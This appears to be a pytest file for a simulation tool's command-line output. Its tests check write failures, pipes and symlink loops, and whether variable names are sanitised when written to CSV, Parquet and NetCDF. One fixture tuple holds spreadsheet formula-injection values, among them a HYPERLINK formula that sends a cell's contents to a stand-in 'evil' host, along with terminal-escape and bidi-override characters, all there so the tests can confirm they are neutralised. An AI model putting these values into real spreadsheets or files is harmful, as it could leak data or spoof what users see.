"""Results that cannot be written: the command ends with 2, and nothing half-written stays."""

import csv
import os
import subprocess
import sys
from pathlib import Path

import pytest

from detente.dynamics.export import export_model
from detente.dynamics.run_file import run_file
from detente.dynamics.series_file import load_series
from detente.terms.errors import InputError
from tests.dynamics.texts import vensim, written, xmile

LARGE = vensim("d: (e1-e200) ~~|\nx[d] = Time ~~|\n", end=100, step=0.25)
"""A run of more than 600 kB in any format."""
MAIN = "import sys; from detente.cli.app import main; sys.exit(main())"
MOST = 100_000
NAMES = (
    "=cmd",
    "+1",
    "-2",
    "@x",
    "=HYPERLINK(&quot;http://evil/?&quot;&amp;A2)",
    "a&#x9b;31m",
    "b&#x202e;c",
    "plain",
)


def simulated(model: Path, out: Path, most: int | None) -> subprocess.CompletedProcess[str]:
    # Set in the program itself: a process in which JAX runs may not fork.
    bound = ""
    if most is not None:
        bound = f"import resource; resource.setrlimit(resource.RLIMIT_FSIZE, ({most}, {most})); "
    # Compiled models are files as well.
    cache = {"DETENTE_CACHE": str(model.parent / "cache")}
    return subprocess.run(
        [sys.executable, "-c", bound + MAIN, "simulate", str(model), "--out", str(out)],
        capture_output=True,
        text=True,
        check=False,
        env={**os.environ, **cache},
    )


@pytest.mark.parametrize("ending", [".nc", ".parquet", ".csv"])
def test_a_full_disk_ends_with_two(tmp_path: Path, ending: str) -> None:
    out = tmp_path / "out"
    out.mkdir()
    done = simulated(written(tmp_path, LARGE), out / f"r{ending}", MOST)
    assert done.returncode == 2, done.stderr
    assert "cannot be written" in done.stderr
    assert "Traceback" not in done.stderr
    assert not list(out.iterdir())


@pytest.mark.parametrize("ending", [".nc", ".parquet", ".csv"])
@pytest.mark.parametrize("kind", ["folder", "pipe", "loop"])
def test_what_is_no_plain_file_is_not_written_over(tmp_path: Path, ending: str, kind: str) -> None:
    out = tmp_path / f"r{ending}"
    {"folder": out.mkdir, "pipe": lambda: os.mkfifo(out), "loop": lambda: out.symlink_to(out)}[
        kind
    ]()
    with pytest.raises(InputError, match="did not write"):
        run_file(written(tmp_path, vensim("a = 1 ~~|\n")), out=out)
    assert out.is_dir() or out.is_fifo() or out.is_symlink()


def test_an_export_leaves_a_pipe_alone(tmp_path: Path) -> None:
    out = tmp_path / "r.xmile"
    os.mkfifo(out)
    with pytest.raises(InputError, match="did not write"):
        export_model(written(tmp_path, vensim("a = 1 ~~|\n")), {}, out)


def test_headers_run_nothing_in_a_spreadsheet_and_drive_no_terminal(tmp_path: Path) -> None:
    variables = "".join(f'<aux name="{name}"><eqn>1</eqn></aux>' for name in NAMES)
    out = tmp_path / "r.csv"
    run_file(written(tmp_path, xmile(variables), ".xmile"), out=out)
    text = out.read_text()
    header = next(csv.reader(text.splitlines()))
    assert {"'=cmd", "'+1", "'-2", "'@x", "plain"} <= set(header)
    assert not [cell for cell in header if cell[:1] in "=+-@"]
    assert all(character.isprintable() or character == "\n" for character in text)


@pytest.mark.parametrize("ending", [".parquet", ".nc"])
def test_odd_names_are_written_visibly_in_every_format(tmp_path: Path, ending: str) -> None:
    import pandas as pd
    import xarray as xr

    variables = "".join(f'<aux name="{name}"><eqn>1</eqn></aux>' for name in NAMES)
    out = tmp_path / f"r{ending}"
    run_file(written(tmp_path, xmile(variables), ".xmile"), out=out)
    names = list(pd.read_parquet(out)) if ending == ".parquet" else list(xr.open_dataset(out))
    assert "plain" in names
    assert all(name.isprintable() for name in map(str, names))


def test_a_pipe_is_no_model_and_no_data(tmp_path: Path) -> None:
    for name in ("m.mdl", "m.xmile", "d.csv"):
        os.mkfifo(tmp_path / name)
    for name in ("m.mdl", "m.xmile"):
        with pytest.raises(InputError, match="no plain file"):
            run_file(tmp_path / name)
    with pytest.raises(InputError, match="no plain file"):
        load_series(tmp_path / "d.csv")
